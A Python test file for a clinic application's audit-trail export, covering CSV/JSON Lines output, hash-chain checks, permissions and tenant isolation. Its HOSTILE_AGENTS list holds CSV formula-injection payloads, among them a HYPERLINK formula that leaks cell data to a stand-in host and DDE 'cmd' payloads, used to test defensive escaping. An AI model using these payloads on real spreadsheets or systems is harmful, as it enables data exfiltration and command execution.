"""The audit trail's export (``GET /api/v1/audit-events/export``, ADR 0027): what the paged list
shows, as CSV or JSON Lines, read in batches from transactions of the caller's clinic, and noted
in the trail itself."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import re
import uuid
from typing import Any

import httpx
import pytest
from sqlalchemy import select, text
from sqlalchemy.ext.asyncio import AsyncSession

from app.audit import export
from app.audit import routes as audit_routes
from app.audit.chain import Entry, Stored, first_break
from app.audit.models import AuditEvent
from app.auth.models import Role
from app.db import tenancy
from app.kit.context import REQUEST_ID_HEADER
from fixtures.factories import CustomerFactory
from tests.harness.api import assert_problem
from tests.harness.world import Actor, ClinicWorld, World

AUDIT = "/api/v1/audit-events"
EXPORT = f"{AUDIT}/export"
CUSTOMERS = "/api/v1/customers"


def new_customer(**overrides: object) -> dict[str, object]:
    return {
        "first_name": "Iria",
        "last_name": "Export",
        "email": f"iria.{uuid.uuid4().hex[:8]}@example.org",
        "phone": "+351912345679",
        **overrides,
    }


async def listed(client: httpx.AsyncClient, actor: Actor, **params: object) -> list[dict]:
    """Every event the paged list shows for ``params``, page by page."""
    items: list[dict] = []
    cursor = None
    while True:
        query = {**params, "limit": 3, **({"cursor": cursor} if cursor else {})}
        answer = await client.get(AUDIT, params=query, headers=actor.headers)
        assert answer.status_code == 200, answer.text
        items += answer.json()["items"]
        cursor = answer.json()["next_cursor"]
        if cursor is None:
            return items


async def exported(
    client: httpx.AsyncClient, actor: Actor, form: str, **params: object
) -> httpx.Response:
    answer = await client.get(EXPORT, params={"format": form, **params}, headers=actor.headers)
    assert answer.status_code == 200, answer.text
    return answer


def lines(answer: httpx.Response) -> list[dict]:
    """A JSON Lines body, each line parsed on its own."""
    assert answer.text == "" or answer.text.endswith("\n")
    return [json.loads(line) for line in answer.text.splitlines()]


def rows(answer: httpx.Response) -> list[dict[str, str]]:
    """A CSV body as the csv module reads it, its header checked."""
    reader = csv.DictReader(io.StringIO(answer.text, newline=""))
    assert reader.fieldnames == export.COLUMNS
    return list(reader)


def as_csv(event: dict[str, Any]) -> dict[str, str]:
    """An event of the list as the CSV writes it (none empty, fields joined by spaces)."""

    def cell(value: Any) -> str:
        if value is None:
            return ""
        return " ".join(value) if isinstance(value, list) else str(value)

    return {name: cell(value) for name, value in event.items()}


async def events_in(engine: Any, clinic_id: uuid.UUID) -> int:
    async with engine.connect() as connection:
        counted: int = await connection.scalar(
            text("SELECT count(*) FROM audit_events WHERE tenant_id = :c"), {"c": clinic_id}
        )
    return counted


async def busy_clinic(client: httpx.AsyncClient, world: World) -> ClinicWorld:
    """A clinic whose trail has inserts, an update and a delete by two members."""
    clinic = await world.clinic(roles=(Role.admin, Role.receptionist))
    desk, admin = clinic.actors[Role.receptionist], clinic.actors[Role.admin]
    first = (await client.post(CUSTOMERS, json=new_customer(), headers=desk.headers)).json()
    second = (await client.post(CUSTOMERS, json=new_customer(), headers=admin.headers)).json()
    changed = await client.patch(
        f"{CUSTOMERS}/{first['id']}", json={"last_name": "Changed"}, headers=desk.headers
    )
    deleted = await client.delete(f"{CUSTOMERS}/{second['id']}", headers=admin.headers)
    assert (changed.status_code, deleted.status_code) == (200, 204)
    return clinic


async def test_the_export_is_what_the_list_shows_for_the_same_filters_in_either_format(
    client, world: World
) -> None:
    clinic = await busy_clinic(client, world)
    admin, desk = clinic.actors[Role.admin], clinic.actors[Role.receptionist]
    everything = await listed(client, admin)
    update = next(e for e in everything if e["change"] == "update")
    assert len(everything) > 5

    for params in (
        {},
        {"user_id": str(desk.user.id)},
        {"object_id": update["object_id"]},
        {"change": "delete"},
        {"action": "customers:write", "object_type": "customers"},
        {"since": update["occurred_at"]},
        {"until": update["occurred_at"]},
        {"since": "2199-01-01T00:00:00Z"},
    ):
        # (Listed again before each: an export is an event of the trail.)
        shown = await listed(client, admin, **params)
        assert lines(await exported(client, admin, "jsonl", **params)) == shown, params
        shown = await listed(client, admin, **params)
        assert rows(await exported(client, admin, "csv", **params)) == list(map(as_csv, shown))
    assert [e["seq"] for e in everything] == list(range(1, len(everything) + 1))


async def test_the_export_is_a_download_that_is_never_cached(client, world: World) -> None:
    clinic = await world.clinic(roles=())
    for form, media in (("csv", "text/csv; charset=utf-8"), ("jsonl", "application/jsonl")):
        answer = await exported(client, clinic.owner, form)
        assert answer.headers["content-type"] == media
        assert answer.headers["cache-control"] == "no-store"
        name = rf"audit-{clinic.id}-\d{{8}}T\d{{6}}Z\.{form}"
        assert re.fullmatch(
            rf"attachment; filename=\"{name}\"; filename\*=UTF-8''{name}",
            answer.headers["content-disposition"],
        ), answer.headers["content-disposition"]
        assert answer.headers["x-content-type-options"] == "nosniff"
        assert "sandbox" in answer.headers["content-security-policy"]
    plain = await client.get(EXPORT, headers=clinic.owner.headers)  # CSV unless told otherwise
    assert plain.headers["content-type"] == "text/csv; charset=utf-8"
    assert rows(plain)


async def test_the_chain_can_be_checked_from_the_exported_file(
    client, world: World, superuser_engine
) -> None:
    clinic = await busy_clinic(client, world)

    events = lines(await exported(client, clinic.owner, "jsonl"))

    def stored(event: dict[str, Any]) -> Stored:
        def uid(value: str | None) -> uuid.UUID | None:
            return None if value is None else uuid.UUID(value)

        entry = Entry(
            tenant_id=clinic.id,
            seq=event["seq"],
            occurred_at=dt.datetime.fromisoformat(event["occurred_at"]),
            user_id=uid(event["user_id"]),
            credential_id=uid(event["credential_id"]),
            role=event["role"],
            action=event["action"],
            object_type=event["object_type"],
            object_id=uid(event["object_id"]),
            change=event["change"],
            fields=tuple(event["fields"]),
            client_ip=event["client_ip"],
            user_agent=event["user_agent"],
            request_id=event["request_id"],
            job_id=event["job_id"],
        )
        return Stored(entry, bytes.fromhex(event["prev_hash"]), bytes.fromhex(event["hash"]))

    last = events[-1]
    assert first_break(map(stored, events), (last["seq"], bytes.fromhex(last["hash"]))) is None
    # And an event changed in the file is found.
    events[1]["role"] = "owner"
    broken = first_break(map(stored, events), (last["seq"], bytes.fromhex(last["hash"])))
    assert broken is not None
    assert broken.seq == 2


async def test_an_export_is_noted_in_the_trail_as_a_read_of_it_after_what_it_holds(
    client, world: World, superuser_engine
) -> None:
    clinic = await busy_clinic(client, world)
    admin = clinic.actors[Role.admin]

    answer = await client.get(
        EXPORT, params={"format": "jsonl"}, headers={**admin.headers, "X-Request-ID": "exp-1"}
    )
    assert answer.status_code == 200, answer.text
    held = lines(answer)

    async with superuser_engine.connect() as connection:
        noted = (
            (
                await connection.execute(
                    text("SELECT * FROM audit_events WHERE tenant_id = :c AND seq > :s"),
                    {"c": clinic.id, "s": held[-1]["seq"]},
                )
            )
            .mappings()
            .all()
        )
    # The file is the trail as it stood when asked for; the export is the next event.
    assert [
        (e["seq"], e["change"], e["object_type"], e["object_id"], e["action"]) for e in noted
    ] == [(held[-1]["seq"] + 1, "read", "audit_events", None, "audit:read")]
    assert (noted[0]["user_id"], noted[0]["role"], noted[0]["request_id"]) == (
        admin.user.id,
        "admin",
        answer.headers[REQUEST_ID_HEADER],
    )
    assert noted[0]["request_id"] == "exp-1"
    # Reading the list is not noted: only taking the trail away is.
    before = len(await listed(client, admin))
    assert len(await listed(client, admin)) == before


@pytest.mark.parametrize("role", [Role.vet, Role.technician, Role.receptionist, Role.read_only])
async def test_only_managers_may_export(client, world: World, role: Role) -> None:
    clinic = await world.clinic(roles=(role,))
    before = await listed(client, clinic.owner)

    for form in ("csv", "jsonl"):
        refused = await client.get(
            EXPORT, params={"format": form}, headers=clinic.actors[role].headers
        )
        assert_problem(refused, 403, "forbidden")

    # A refusal is noted as what it is, a refused permission; no export is.
    after = (await listed(client, clinic.owner))[len(before) :]
    assert [(e["change"], e["event"], e["action"]) for e in after] == [
        ("security", "permission_denied", "audit:read")
    ] * 2


async def test_a_long_trail_comes_out_whole_and_in_order_batch_by_batch_of_its_clinic_only(
    client, world: World, superuser_engine, monkeypatch
) -> None:
    ours, theirs = await world.clinic(roles=()), await world.clinic(roles=())
    for _ in range(6):
        await world.make(ours, CustomerFactory)
        await world.make(theirs, CustomerFactory)
    monkeypatch.setattr(export, "BATCH", 4)
    entered: list[uuid.UUID] = []
    enter = tenancy.enter_tenant

    async def entering(session: AsyncSession, clinic_id: uuid.UUID, **kw: Any) -> Any:
        entered.append(clinic_id)
        return await enter(session, clinic_id, **kw)

    monkeypatch.setattr(export, "enter_tenant", entering)

    for form in ("csv", "jsonl"):
        total = await events_in(superuser_engine, ours.id)  # (the first export's note too)
        entered.clear()
        answer = await exported(client, ours.owner, form)
        seqs = [int(r["seq"]) for r in (rows(answer) if form == "csv" else lines(answer))]
        assert seqs == list(range(1, total + 1)), form
        for other in (str(theirs.id), *(str(u.id) for u in theirs.setup.staff.values())):
            assert other not in answer.text
        # A transaction per batch (the last one short, or empty), each in our clinic.
        assert entered == [ours.id] * (total // 4 + 1), form


async def test_row_level_security_alone_keeps_the_export_to_the_callers_clinic(
    client, world: World, superuser_engine, monkeypatch
) -> None:
    """Each batch's transaction is entered in the caller's clinic for the database's wall too:
    with the application's filters taken off the export's statement, it still shows nothing of
    another clinic."""
    ours, theirs = await world.clinic(roles=()), await world.clinic(roles=())
    await world.make(theirs, CustomerFactory)
    unfiltered = select(AuditEvent).execution_options(vetify_user_scope=True)
    async with AsyncSession(superuser_engine) as session:
        everyone = {e.tenant_id for e in await session.scalars(unfiltered)}
    assert {ours.id, theirs.id} <= everyone  # the statement itself keeps to no clinic

    async def unscoped(*_: object) -> Any:
        return unfiltered

    monkeypatch.setattr(audit_routes, "_search", unscoped)
    answer = await exported(client, ours.owner, "jsonl")

    ours_total = await events_in(superuser_engine, ours.id)
    assert len(lines(answer)) == ours_total - 1  # all ours but the export's own note
    assert str(theirs.id) not in answer.text
    assert str(theirs.owner.user.id) not in answer.text


HOSTILE_AGENTS = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    'quiet, then ",=1+1" and ;=2+2',
]


async def test_a_hostile_user_agent_is_text_in_a_spreadsheet_and_exact_in_json_lines(
    client, world: World
) -> None:
    clinic = await world.clinic(roles=(Role.receptionist,))
    desk = clinic.actors[Role.receptionist]
    for agent in HOSTILE_AGENTS:
        made = await client.post(
            CUSTOMERS, json=new_customer(), headers={**desk.headers, "User-Agent": agent}
        )
        assert made.status_code == 201, made.text

    table = rows(await exported(client, clinic.owner, "csv"))
    agents = [row["user_agent"] for row in table if row["user_agent"]]
    assert agents == [f"'{agent}" for agent in HOSTILE_AGENTS[:4]] + [HOSTILE_AGENTS[4]]
    for row in table:  # no cell of any line starts a formula, and no line has extra cells
        assert None not in row, row
        assert not any(cell.startswith(export.FORMULA_STARTS) for cell in row.values()), row
    exact = [e["user_agent"] for e in lines(await exported(client, clinic.owner, "jsonl"))]
    assert [a for a in exact if a in HOSTILE_AGENTS] == HOSTILE_AGENTS


@pytest.mark.parametrize(
    "params",
    [
        {"format": "xlsx"},
        {"format": ""},
        {"format": "csv", "since": "yesterday"},
        {"format": "csv", "until": "2030-02-30T00:00:00Z"},
        {"format": "jsonl", "action": "DROP TABLE"},
        {"format": "jsonl", "object_id": "not-a-uuid"},
        {"format": "jsonl", "change": "erase"},
        {"format": "csv", "user_id": "1"},
    ],
    ids=str,
)
async def test_bad_input_is_a_validation_problem(client, world: World, params: dict) -> None:
    clinic = await world.clinic(roles=())

    refused = await client.get(EXPORT, params=params, headers=clinic.owner.headers)

    body = assert_problem(refused, 422, "validation-error")
    assert body["errors"][0]["loc"][0] == "query", body
